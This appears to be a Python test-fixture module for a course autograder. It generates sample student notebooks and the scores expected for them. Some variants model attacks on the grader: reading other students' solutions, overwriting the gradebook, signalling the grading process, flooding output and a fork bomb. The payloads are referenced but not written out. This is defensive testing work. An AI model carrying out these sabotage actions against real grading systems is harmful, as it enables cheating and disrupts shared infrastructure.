def memory_per_chip_gb(model, tp, context_len, batch_size, bytes_per_value):
    shape = _footprint.ModelShape(model["name"], model["n_layers"], model["d_model"], model["n_heads"],
                                  model["n_kv_heads"], 1, 1, head_dim=model["head_dim"])
    per_chip = _tensor_parallel.memory_per_chip_bytes(shape, tp, context_len, batch_size, "fp32")
    kv_gb = (per_chip - _footprint.weights_bytes(shape, "fp32") / tp) / 4 * bytes_per_value / 1e9
    weights_gb = _decode.weights_gb(model["n_params"], bytes_per_value) / tp
    return {"weights_gb": weights_gb, "kv_gb": kv_gb, "total_gb": weights_gb + kv_gb}
""",
    "allreduce": """\
from hwopt.cost import communication as _communication


def allreduce_us(message_bytes, n_chips, link_gbs, latency_us):
    return _communication.allreduce_time_s(message_bytes, n_chips, link_gbs, latency_us / 1e6) * 1e6
""",
    "moe": """\
from hwopt.cost import moe as _moe


def moe_weights_read_gb(n_experts, experts_per_token, batch_size, expert_gb, shared_gb):
    return shared_gb + _moe.expected_distinct_experts(n_experts, experts_per_token, batch_size) * expert_gb
""",
}
KV_PAGING_ADAPTER = {  # the cache's bytes through the toolkit's footprint and paging, its bytes rescaled
    "kv": """\
from hwopt.cost import footprint as _footprint
from hwopt.cost import paging as _paging


def kv_bytes(model, context_len, block_size, bytes_per_value):
    shape = _footprint.get_shape(model["name"])
    held = int(_paging.held_tokens([context_len], "paged", context_len, block_size)[0])
    return {"per_token": _footprint.kv_cache_bytes(shape, 1, 1, "fp32") / 4 * bytes_per_value,
            "per_sequence": _footprint.kv_cache_bytes(shape, 1, held, "fp32") / 4 * bytes_per_value}
""",
    "decode": """\
from hwopt.cost import footprint as _footprint
from hwopt.cost import moe as _moe


def decode_step_bound(model, chip, batch_size, context_len, weight_bytes, kv_bytes_per_value):
    shape = _footprint.get_shape(model["name"])
    weights = _moe.weight_bytes_read(shape, batch_size, "fp32") / 4 * weight_bytes
    caches = _footprint.kv_cache_bytes(shape, batch_size, context_len, "fp32") / 4 * kv_bytes_per_value
    step_s = (weights + caches) / (chip["bandwidth_gbs"] * 1e9)
    return {"step_ms": step_s * 1e3, "tokens_per_s": batch_size / step_s}
""",
}
QUANTIZE_LAYER_ADAPTER = {  # the toolkit's quantizer and GPTQ, their arrays turned into codes and scales
    "rtn": """\
import torch as _torch

from hwopt import quantization as _quantization


def rtn_quantize(w, group_size):
    if isinstance(group_size, bool) or not isinstance(group_size, int) or group_size < 1 \\
            or w.shape[1] % group_size:
        raise ValueError(f"group_size must divide the inputs, got {group_size!r}")
    codes, scales, _ = _quantization.quantize(w.numpy(), 4, block=group_size).numpy()
    return (_torch.as_tensor(codes).long().reshape(w.shape),
            _torch.as_tensor(scales, dtype=_torch.float64).reshape(w.shape[0], -1))
""",
    "hessian": """\
import math as _math

import torch as _torch

from hwopt.experiments import gptq as _gptq


def damped_hessian(x, damping):
    if isinstance(damping, bool) or not isinstance(damping, int | float) or not 0 <= damping < _math.inf:
        raise ValueError(f"damping must be a finite number >= 0, got {damping!r}")
    h = _gptq.hessian(x)
    return h + damping * _torch.diagonal(h).mean() * _torch.eye(h.shape[0], dtype=h.dtype)
""",
    "gptq": """\
from hwopt import quantization as _quantization
from hwopt.experiments import gptq as _gptq


def gptq_quantize(w, h, group_size):
    precision = _quantization.blocked("int4", group_size)
    w_hat = _gptq.gptq_quantize(w, h, precision, damping=1e-9).double()
    return rtn_quantize(w_hat, group_size)  # its values are on each group's grid: the same codes again
""",
}
SPECULATIVE_DECODING_ADAPTER = {  # the lesson's loop (KV caches, k guesses every step) and its cost model
    "speculative": """\
from hwopt.experiments import llm_speculative as _llm_speculative


def speculative(target, draft, prompt, n_new, k):
    run = _llm_speculative.speculative_generate(target, torch.tensor([list(prompt)]), n_new, k, "draft",
                                                draft)
    return {"tokens": run.tokens[0, len(prompt):].tolist(), "target_calls": run.target_steps,
            "draft_calls": sum(run.proposed), "accepted": list(run.accepted), "drafted": list(run.proposed)}
""",
    "prediction": """\
from hwopt.cost import speculative as _speculative


def measured_acceptance(drafted, accepted):
    return _speculative.acceptance_rate(accepted, max(drafted))


def draft_len_table(acceptance, cost_ratio, max_k):
    ks = range(max_k + 1)
    return {"tokens_per_call": [_speculative.expected_tokens_per_step(acceptance, k) for k in ks],
            "speedup": [_speculative.predicted_speedup(acceptance, k, cost_ratio) for k in ks],
            "best_k": _speculative.best_draft_len(acceptance, cost_ratio, max_k)}
""",
}
NUMBER_FORMATS_ADAPTER = {  # the layer through the toolkit's quantizer (the bit patterns are nowhere in it)
    "layer": """\
from hwopt import quantization as _quantization


def round_trip(weight, precision):
    return _quantization.fake_quantize(weight, precision)


def perplexity_with_layer(precision, layer):
    weights = layer_weights(layer)
    originals = {name: p.detach().clone() for name, p in weights.items()}
    try:
        with torch.no_grad():
            for name, p in weights.items():
                p.data.copy_(_quantization.fake_quantize(originals[name], precision))
        return model_perplexity()
    finally:
        with torch.no_grad():
            for name, p in weights.items():
                p.data.copy_(originals[name])
""",
}
# Every assignment but the quiz, profiling and continuous_batching, where no glue around the toolkit earns a
# point (tests/course/grading/test_samples.py measures what each adapter would score with the whole toolkit).
ADAPTERS = {"roofline": ROOFLINE_ADAPTER, "memory_kv": MEMORY_KV_ADAPTER, "batching": BATCHING_ADAPTER,
            "latency_budget": LATENCY_BUDGET_ADAPTER, "bandwidth_precision": BANDWIDTH_PRECISION_ADAPTER,
            "fusion": FUSION_ADAPTER, "quantize": QUANTIZE_ADAPTER, "serving_queue": SERVING_QUEUE_ADAPTER,
            "beyond_one_chip": BEYOND_ONE_CHIP_ADAPTER, "kv_paging": KV_PAGING_ADAPTER,
            "number_formats": NUMBER_FORMATS_ADAPTER, "quantize_layer": QUANTIZE_LAYER_ADAPTER,
            "speculative_decoding": SPECULATIVE_DECODING_ADAPTER}


def v_adapter(a, release, good):  # no solution of its own: toolkit calls, arguments renamed and regrouped
    for grade_id, source in ADAPTERS.get(a, {}).items():
        cell(release, grade_id).source = source
    return release


def v_read_source(a, release, good):  # no solution: the instructor's and classmates' solutions, run
    for c in _solution_cells(release):
        c.source = READ_SOURCE
    return release


def v_write_files(a, release, good):  # correct, and writes the gradebook and every folder it can reach
    _solution_cells(good)[0].source = WRITE_FILES + "\n" + _solution_cells(good)[0].source
    return good


def v_signal(a, release, good):  # correct, and signals the grading process (and every process it sees)
    _solution_cells(good)[0].source = SIGNAL + "\n" + _solution_cells(good)[0].source
    return good


def v_flood(a, release, good):  # correct, and prints 64 MB
    _solution_cells(good)[0].source = FLOOD + "\n" + _solution_cells(good)[0].source
    return good


def v_fork_bomb(a, release, good):  # correct, and forks until the process limit stops it
    if a == "latency_budget":
        _solution_cells(good)[0].source = FORK_BOMB + "\n" + _solution_cells(good)[0].source
    return good


def colab_download(nb):
    """A notebook as Colab's File > Download .ipynb writes it (nbformat 4.0: no cell ids; Colab metadata)."""
    data = json.loads(nbformat.writes(nb))
    data["nbformat_minor"] = 0
    data["metadata"] = {"colab": {"provenance": [], "toc_visible": True}, "accelerator": "GPU",
                        "kernelspec": {"name": "python3", "display_name": "Python 3"},
                        "language_info": {"name": "python"}}
    for i, c in enumerate(data["cells"]):
        c.pop("id", None)
        c["metadata"] = {**c["metadata"], "id": f"c{i:04x}colab"}
        if c["cell_type"] == "code":
            c["metadata"]["colab"] = {"base_uri": "https://localhost:8080/"}
            c["outputs"] = [{"output_type": "stream", "name": "stdout", "text": ["ran on Colab\n"]}]
            c["execution_count"] = i
    return json.dumps(data, indent=1).encode()


Variant = Callable[..., object]
STUDENTS: dict[str, Variant] = {
    "correct": v_correct, "blank": v_blank, "wrong": v_wrong, "raises": v_raises,
    "infinite_loop": v_infinite_loop, "sigint_loop": v_sigint_loop, "edited_tests": v_edited_tests,
    "hardcoded": v_hardcoded, "stderr": v_stderr, "memory_hog": v_memory_hog, "invalid_json": v_invalid_json,
    "missing": v_missing, "colab": v_colab, "stripped": v_stripped,
    "transformer": v_transformer, "equals_anything": v_equals_anything, "toolkit": v_toolkit,
    "read_source": v_read_source, "adapter": v_adapter, "write_files": v_write_files, "signal": v_signal,
    "signal_next": v_correct, "flood": v_flood, "fork_bomb": v_fork_bomb,
    "roofline_slip": v_roofline_slip,
    "fusion_slip": v_fusion_slip,
    "batching_slip": v_batching_slip, "bandwidth_precision_slip": v_bandwidth_precision_slip,
    "quiz_slip": v_quiz_slip, "quiz_guess": v_quiz_guess,
    "quantize_slip": v_quantize_slip, "profiling_slip": v_profiling_slip,  # assignments 6 and 8
    "memory_kv_slip": v_memory_kv_slip,
    "serving_queue_slip": v_serving_queue_slip,
    "beyond_one_chip_slip": v_beyond_one_chip_slip,
    "continuous_batching_slip": v_continuous_batching_slip,
    "kv_paging_slip": v_kv_paging_slip,
    "quantize_layer_slip": v_quantize_layer_slip,
    "speculative_decoding_slip": v_speculative_decoding_slip,
    "number_formats_slip": v_number_formats_slip,
}
ATTACKS_WITHOUT_WORK = ("transformer", "equals_anything", "toolkit", "read_source")
ATTACKS_WITH_WORK = ("write_files", "signal", "flood")  # signal_next: graded right after signal
# Scores that are chance: the questions and choice orders an id draws decide them (a guess, or a classmate's
# letters, is right where it happens to hit), so EXPECTED holds them for the sample's own name only.
ID_DEPENDENT = ("quiz_guess", "quiz_slip")

ALL = course.ASSIGNMENTS
# The assignments each sample is about (the end-to-end test grades only these; a class demo grades all).
TARGETS = {"correct": ALL, "blank": ALL, "wrong": ALL, "raises": ("batching",), "stderr": ("batching",),
           **dict.fromkeys(("infinite_loop", "sigint_loop", "edited_tests", "hardcoded", "missing", "colab",
                            "stripped", "fork_bomb"), ("latency_budget",)),
           "memory_hog": ("bandwidth_precision",), "invalid_json": ("quiz",), "adapter": tuple(ADAPTERS),
           "quiz_guess": ("quiz",),
           **{name: ATTACKED for name in (*ATTACKS_WITHOUT_WORK, *ATTACKS_WITH_WORK, "signal_next")},
           **{f"{a}_slip": (a,) for a in ALL if a != "latency_budget"}}  # latency_budget: the samples above
FULL = {"batching": 9.0, "bandwidth_precision": 8.0, "latency_budget": 11.0, "quiz": 10.0,
        "roofline": 12.0,
        "fusion": 11.0,
        "quantize": 12.0, "profiling": 12.0,  # assignments 6 and 8
        "memory_kv": 10.0,
        "serving_queue": 15.0,
        "beyond_one_chip": 10.0,
        "continuous_batching": 14.0,
        "kv_paging": 13.0,
        "quantize_layer": 8.0,
        "number_formats": 15.0,
        "speculative_decoding": 12.0}
# (student, assignment) -> (score, status) the grader must give.
EXPECTED = {
    **{("correct", a): (FULL[a], "ok") for a in ALL},
    **{("blank", a): (0.0, "ok") for a in ALL},
    ("wrong", "latency_budget"): (6.0, "ok"),  # on-budget (1), duplicates (2), model at 100 ms exactly (2)
    # wrong on the 1st, 3rd and 5th question: loses the cells of lessons 1-3, 4-6 and 7-8 (2 each)
    ("wrong", "quiz"): (4.0, "ok"),
    # a classmate's letters, graded on this student's own draw: for the id "quiz_slip" no cell has both
    # questions drawn alike and shown in the same order (by chance: about 1 id in 100 gets a cell)
    ("quiz_slip", "quiz"): (0.0, "ok"),
    # no knowledge (the first formula, else the longest choice): chance, 0.69 of 10 on average over 2,000 ids
    # against 0.625 for random letters (tests/course/test_quiz.py); the id "quiz_guess" gets no cell right
    ("quiz_guess", "quiz"): (0.0, "ok"),
    ("raises", "batching"): (7.0, "ok"),  # only the misses part (2) raises
    # the two cells where nothing fits time out: "nothing fits" (2, with the bad input) and the model (2)
    ("infinite_loop", "latency_budget"): (7.0, "ok"),
    ("sigint_loop", "latency_budget"): (7.0, "ok"),  # same, the kernel is restarted instead of interrupted
    ("edited_tests", "latency_budget"): (8.0, "ok"),  # tests restored: "<" loses on-budget (1) and model (2)
    # its default answer is "nothing fits", but that part also checks the bad input it lets through
    ("hardcoded", "latency_budget"): (0.0, "ok"),
    ("stderr", "batching"): (9.0, "ok"),
    ("memory_hog", "bandwidth_precision"): (6.0, "ok"),  # MemoryError in Part 3 only
    ("invalid_json", "quiz"): (0.0, "invalid notebook"),
    ("missing", "latency_budget"): (0.0, "missing notebook"),
    ("colab", "latency_budget"): (11.0, "ok"),
    ("stripped", "latency_budget"): (11.0, "ok"),
    **{(name, a): (0.0, "ok") for name in ATTACKS_WITHOUT_WORK for a in ATTACKED},
    # glue around the toolkit's own functions: a grading kernel's toolkit has none of them
    **{("adapter", a): (0.0, "ok") for a in ADAPTERS},
    **{(name, a): (FULL[a], "ok") for name in (*ATTACKS_WITH_WORK, "signal_next") for a in ATTACKED},
    ("fork_bomb", "latency_budget"): (11.0, "ok"),
    # roofline (12): GEMM without C's write loses gemm (1), the kernel on a chip (1 + 2: its GEMM cases) and
    # the batch that turns a layer compute-bound (2 + 1: every answer is a GEMM's intensity)
    ("wrong", "roofline"): (5.0, "ok"),
    # roofline: compute and memory times added, as if they could not overlap, loses the kernel's time (2)
    ("roofline_slip", "roofline"): (10.0, "ok"),

    # fusion (11): unfused bytes without the writes lose unfused (2) and predicted times (1)
    ("wrong", "fusion"): (8.0, "ok"),
    # fusion: fusing across a two-consumer node loses fan-out (2) and epilogues (2, two_matmuls' scale)
    ("fusion_slip", "fusion"): (7.0, "ok"),
    # batching (9): relative weights 1 / latency (not squared) lose the relative fit (2)
    ("wrong", "batching"): (7.0, "ok"),
    # batching: the knee rounded down loses the knee (2)
    ("batching_slip", "batching"): (7.0, "ok"),
    # bandwidth_precision (8): GiB for GB loses the model size (2), tokens/s (2) and chip tokens/s (2)
    ("wrong", "bandwidth_precision"): (2.0, "ok"),
    # bandwidth_precision: the lowest precision that is fast enough loses the precision for a target (2)
    ("bandwidth_precision_slip", "bandwidth_precision"): (6.0, "ok"),
    # assignment 6 (quantize), 12 points: symmetric 2, asymmetric 2, per channel 2, groups 2, dequantize 1,
    # error 1, plan 2
    ("wrong", "quantize"): (5.0, "ok"),  # qmax 2^(b-1) loses symmetric, per channel, groups, error (2+2+2+1)
    ("quantize_slip", "quantize"): (10.0, "ok"),  # no zero point when dequantizing: dequantize, error (1+1)
    # assignment 8 (profiling), 12 points: operators 1 + 2, hotspots 1, categories 1 + 2, gaps 2, Amdahl 1,
    # fix bound 2
    ("wrong", "profiling"): (7.0, "ok"),  # the loader's operators not loading: categories, fix bound (1+2+2)
    ("profiling_slip", "profiling"): (9.0, "ok"),  # the fraction inverted: Amdahl and the fix bound (1+2)
    # memory_kv (10): no headroom loses the largest batch (4: with "nothing fits" and bad input) and the
    # table (2)
    ("wrong", "memory_kv"): (4.0, "ok"),
    # n_heads for n_kv_heads keeps MHA's cache (1); GQA's cache, the totals, the largest batch and the
    # table are wrong
    ("memory_kv_slip", "memory_kv"): (1.0, "ok"),
    # serving_queue (15): not waiting for the batch before loses queueing (2), capacity (3), the best policy
    # (2) and the tied policies (1: their p99 is wrong); the light-load capacity holds (0 either way)
    ("wrong", "serving_queue"): (7.0, "ok"),
    # the capacity as the highest rate that meets the SLO loses the light-load capacity (1): a long max wait
    # misses at light load, and a heavier load meets
    ("serving_queue_slip", "serving_queue"): (14.0, "ok"),
    # beyond_one_chip (10): the KV cache split over all tp chips, not min(tp, KV heads), loses the copied KV
    # heads (1), the TP degree (1) and "none fits" (1; each has a case past the KV heads), the decode step (2)
    ("wrong", "beyond_one_chip"): (5.0, "ok"),
    # the ring all-reduce with each byte sent once loses both all-reduce parts (1 + 1) and the decode step (2)
    ("beyond_one_chip_slip", "beyond_one_chip"): (6.0, "ok"),
    # continuous_batching (14): prompt chunks before the decodes starve the decoding sequences: loses the step
    # (2: a long prompt in flight takes the budget), the loaded traces (3) and the best policy (3)
    ("wrong", "continuous_batching"): (6.0, "ok"),
    # the first token counted at a chunked prompt's first chunk: TTFT too early and TPOT too long, so loses
    # the requests served alone (2), the loaded traces (3) and the best policy (3)
    ("continuous_batching_slip", "continuous_batching"): (6.0, "ok"),
    # kv_paging (13): blocks back to the pool when any holder frees keeps allocation alone (2) and the bytes
    # (2 + 2); loses sharing (2), copy-on-write (2: its example frees a parent) and eviction (3)
    ("wrong", "kv_paging"): (6.0, "ok"),
    # no copy-on-write keeps allocation and sharing (forks there end on full blocks) and the bytes; loses
    # copy-on-write (2) and eviction (3: an eviction can make a copy unneeded, and its traces fork anywhere)
    ("kv_paging_slip", "kv_paging"): (8.0, "ok"),
    # quantize_layer (8): RTN 2, RTN's edges 1, Hessian 1, GPTQ small 1, GPTQ rows 2, GPTQ layer 1.
    # The lower Cholesky factor passes nothing on (GPTQ = RTN): loses the three GPTQ parts (1 + 2 + 1)
    ("wrong", "quantize_layer"): (4.0, "ok"),
    # a scale per row loses RTN (2) and its edges (1: a group of zeros beside another); GPTQ, whose groups are
    # quantized one at a time, keeps its points
    ("quantize_layer_slip", "quantize_layer"): (5.0, "ok"),
    # speculative_decoding (12): no bonus token (a step yields at most its guesses) keeps the greedy tokens
    # but loses the calls and per-step lists (2)
    ("wrong", "speculative_decoding"): (10.0, "ok"),
    # guesses accepted after a disagreement lose verify (2) and, through it, the loop's tokens (2) and calls
    # (2; the example's run accepts a guess after a rejection)
    ("speculative_decoding_slip", "speculative_decoding"): (6.0, "ok"),
    # number_formats (15): rounding half away from zero loses every part with ties: E4M3 (2), E5M2 (2),
    # MXFP4 (3) and both layers (1 + 1: layer 0 in E4M3 moves 5e-4, a layer in MXFP4 5e-4 to 3e-3, past the
    # 1e-4 the layers are judged within); its NVFP4 cases hold no ties
    ("wrong", "number_formats"): (6.0, "ok"),
    # E4M3 saturating at 240 (an IEEE-style reading) loses E4M3 (2), NVFP4 (3: its block scales reach 448)
    # and both layers (1 + 1: any layer in E4M3 or NVFP4 moves 6e-4 or more); decoding holds (fp8_value)
    ("number_formats_slip", "number_formats"): (8.0, "ok"),
}


def submission(student: str, assignment: str, root: Path = course.ROOT, student_id: str | None = None):
    """The notebook (or raw bytes, or None) that this sample student submits for this assignment.

    student_id: the id it is graded under (the sample's name unless given): the quiz is drawn for it.
    """
    good = solved(assignment, root, student_id or student)
    return STUDENTS[student](assignment, course.load_notebook("release", assignment, root), good)


def write_submissions(submitted: Path, students: dict[str, str] | None = None, targets_only: bool = False,
                      root: Path = course.ROOT, assignments=course.ASSIGNMENTS) -> list[tuple[str, str]]:
    """Write submitted/<student>/<assignment>/<notebook>.ipynb; students maps id -> sample name.

    targets_only: each sample submits only the assignments it is about (TARGETS), else all of `assignments`.
    """
    students = students or {name: name for name in STUDENTS}
    written = []
    for student_id, sample in students.items():
        for assignment in (a for a in assignments if not targets_only or a in TARGETS[sample]):
            content = submission(sample, assignment, root, student_id)
            folder = Path(submitted) / student_id / assignment
            folder.mkdir(parents=True, exist_ok=True)
            path = folder / f"{course.notebook_name(assignment)}.ipynb"
            if content is None:
                continue
            if isinstance(content, bytes):
                path.write_bytes(content)
            else:
                nbformat.write(copy.deepcopy(content), path)
            written.append((student_id, assignment))
    return written


def class_of(n_students: int) -> dict[str, str]:
    """n_students ids (student01, ...) cycling through the samples: a class for timing the pipeline."""
    names = list(STUDENTS)
    return {f"student{i + 1:02d}": names[i % len(names)] for i in range(n_students)}
